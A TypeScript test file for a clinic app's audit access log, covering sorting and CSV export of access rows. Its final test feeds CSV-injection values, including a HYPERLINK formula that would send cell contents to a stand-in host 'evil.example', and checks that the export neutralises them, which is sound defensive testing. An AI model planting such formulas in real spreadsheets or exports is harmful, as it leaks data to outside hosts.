import { formulaStarts } from '@portalflow/engine/text';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../packages/engine/test/support/parse-csv.ts';
import { type AccessRow, accessRowsToCsv, nextSort, sortAccessRows } from '../src/audit/accessLog.ts';
import { accessText } from '../src/audit/accessText.ts';

const row = (id: number, over: Partial<AccessRow>): AccessRow => ({
  id,
  at: `2026-11-2${id}T10:00:00.000Z`,
  userId: `u${id}`,
  role: 'auditor',
  action: 'GET /api/instances/:id',
  instanceId: null,
  dataCategory: 'phi',
  outcome: 'allow',
  detail: null,
  emergencyAccessId: null,
  emergencyReason: null,
  workflowTitle: null,
  reference: null,
  stepTitle: null,
  ...over,
});

const rows = [
  row(1, { userId: 'bob', outcome: 'deny', instanceId: 'i2' }),
  row(2, { userId: 'ana', instanceId: null }),
  row(3, { userId: null, instanceId: 'i1' }),
  row(4, { userId: 'ana', outcome: 'deny' }),
];

describe('sortAccessRows', () => {
  it('sorts by time both ways', () => {
    expect(sortAccessRows(rows, { key: 'at', direction: 'ascending' }).map((r) => r.id)).toEqual([
      1, 2, 3, 4,
    ]);
    expect(sortAccessRows(rows, { key: 'at', direction: 'descending' }).map((r) => r.id)).toEqual([
      4, 3, 2, 1,
    ]);
  });

  it('keeps the server order for ties and puts empty values last either way', () => {
    expect(sortAccessRows(rows, { key: 'userId', direction: 'ascending' }).map((r) => r.id)).toEqual([
      2, 4, 1, 3,
    ]);
    expect(sortAccessRows(rows, { key: 'userId', direction: 'descending' }).map((r) => r.id)).toEqual([
      1, 2, 4, 3,
    ]);
    expect(sortAccessRows(rows, { key: 'instanceId', direction: 'descending' }).map((r) => r.id)).toEqual([
      1, 3, 2, 4,
    ]);
  });

  it('sorts denials together', () => {
    expect(sortAccessRows(rows, { key: 'outcome', direction: 'descending' }).map((r) => r.outcome)).toEqual([
      'deny',
      'deny',
      'allow',
      'allow',
    ]);
  });

  it('does not change its input', () => {
    const copy = [...rows];
    sortAccessRows(rows, { key: 'role', direction: 'descending' });
    expect(rows).toEqual(copy);
  });
});

describe('nextSort', () => {
  it('flips the same column and starts a new one ascending', () => {
    expect(nextSort({ key: 'at', direction: 'descending' }, 'at')).toEqual({
      key: 'at',
      direction: 'ascending',
    });
    expect(nextSort({ key: 'at', direction: 'ascending' }, 'at')).toEqual({
      key: 'at',
      direction: 'descending',
    });
    expect(nextSort({ key: 'at', direction: 'descending' }, 'role')).toEqual({
      key: 'role',
      direction: 'ascending',
    });
  });
});

/** How the tests' clinic names people and roles; its clock is Denver's. */
const words = {
  person: (id: string) => ({ u1: 'Pat Kim', u2: 'Morgan Diaz' })[id],
  role: (id: string) => ({ auditor: 'Auditor', designer: 'Operations lead' })[id] ?? id,
  timeZone: 'America/Denver',
};

/** The CSV as a spreadsheet reads it, after its byte order mark. */
function read(csv: string) {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [header, ...lines] = parseCsv(csv.slice(1));
  return lines.map((l) => Object.fromEntries(header!.map((h, i) => [h, l[i]])));
}

describe('accessRowsToCsv', () => {
  it('starts with a byte order mark, then names, role titles, plain words and clinic times; ids last', () => {
    const csv = accessRowsToCsv(
      [
        row(1, { instanceId: 'i1', workflowTitle: 'Refill request' }),
        row(2, {
          userId: 'u2',
          role: 'designer',
          action: 'GET /api/audit/access-log',
          dataCategory: 'access-log',
        }),
      ],
      words,
    );
    const header = parseCsv(csv.slice(1))[0]!;
    expect(header.slice(-4)).toEqual(['entry id', 'person id', 'role id', 'request id']);
    const [opened, read2] = read(csv);
    expect(opened).toMatchObject({
      when: '2026-11-21T03:00:00-07:00',
      who: 'Pat Kim',
      role: 'Auditor',
      what: 'Opened Refill request',
      route: 'GET /api/instances/:id',
      request: 'Refill request',
      category: 'Patient data',
      outcome: 'allowed',
      'person id': 'u1',
      'role id': 'auditor',
      'request id': 'i1',
    });
    expect(read2).toMatchObject({
      who: 'Morgan Diaz',
      role: 'Operations lead',
      what: 'Read the access log',
      'role id': 'designer',
    });
  });

  it('names the request as the row on screen does, never by its id; the id is in the last column', () => {
    const shown = [
      row(1, {
        instanceId: 'i1',
        workflowTitle: 'Refill request',
        stepTitle: 'Prepare refill',
        detail: 'step prepare',
      }),
      row(2, { instanceId: 'i2', workflowTitle: null }),
      row(3, { action: 'GET /api/audit/access-log', dataCategory: 'access-log' }),
      row(4, { action: 'GET /api/tasks', dataCategory: 'task-list', detail: 'pool: 2; instances: i1,i2' }),
    ];
    const lines = read(accessRowsToCsv(shown, words));
    expect(lines.map((l) => [l.request, l['request id']])).toEqual([
      ['Refill request', 'i1'],
      ['a request', 'i2'],
      ['', ''],
      ['', ''],
    ]);
    // The words come from the sentence the table shows, and only from it.
    for (const [i, line] of lines.entries()) expect(accessText(shown[i]!)).toContain(line.request);
  });

  it('names the request by its reference too, on screen and in its own column, so a manager can tell which', () => {
    const shown = [
      row(1, {
        instanceId: 'i1',
        workflowTitle: 'Password reset',
        reference: 'DEMO-6201',
        action: 'GET /api/tasks/:id',
        stepTitle: 'Reset the password',
        detail: 'step reset',
      }),
      row(2, { instanceId: 'i2', workflowTitle: 'Password reset', reference: null }),
    ];
    expect(accessText(shown[0]!)).toBe("Opened 'Reset the password' of Password reset · DEMO-6201");
    const lines = read(accessRowsToCsv(shown, words));
    expect(lines.map((l) => [l.request, l.reference, l['request id']])).toEqual([
      ['Password reset · DEMO-6201', 'DEMO-6201', 'i1'],
      ['Password reset', '', 'i2'],
    ]);
    const header = parseCsv(accessRowsToCsv(shown, words).slice(1))[0]!;
    expect(header.indexOf('reference')).toBe(header.indexOf('request') + 1);
  });

  it('says who when no name is known: the id, or not signed in', () => {
    const [known, unknown, anonymous] = read(
      accessRowsToCsv(
        [row(1, {}), row(3, { userId: 'u9' }), row(4, { userId: null, outcome: 'deny' })],
        words,
      ),
    );
    expect(known!.who).toBe('Pat Kim');
    expect(unknown!.who).toBe('u9');
    expect(anonymous).toMatchObject({ who: 'not signed in', outcome: 'refused', 'person id': '' });
  });

  it('quotes commas and quotes', () => {
    const [line] = read(accessRowsToCsv([row(1, { detail: 'said "hi", left' })], words));
    expect(line!.detail).toBe('said "hi", left');
  });

  it('names the break-glass grant and its reason on rows that relied on one', () => {
    const [line] = read(
      accessRowsToCsv([row(1, { emergencyAccessId: 'g-1', emergencyReason: 'Code blue, bed 4' })], words),
    );
    expect(line).toMatchObject({ 'break-glass grant': 'g-1', 'break-glass reason': 'Code blue, bed 4' });
  });

  it('leaves no formula anywhere, not even after a ";" mid-cell (European list separator)', () => {
    const csv = accessRowsToCsv(
      [
        row(1, {
          emergencyAccessId: 'g-1',
          emergencyReason: 'Code blue;=HYPERLINK("http://evil.example/?"&A1)',
          detail: 'x\t+1|@SUM(A1)',
          userId: '=cmd',
        }),
      ],
      words,
    );
    expect(csv).toContain('HYPERLINK');
    expect(formulaStarts(csv.slice(1))).toBe(false);
  });

  it('writes only the header for no rows', () => {
    expect(read(accessRowsToCsv([], words))).toEqual([]);
  });
});
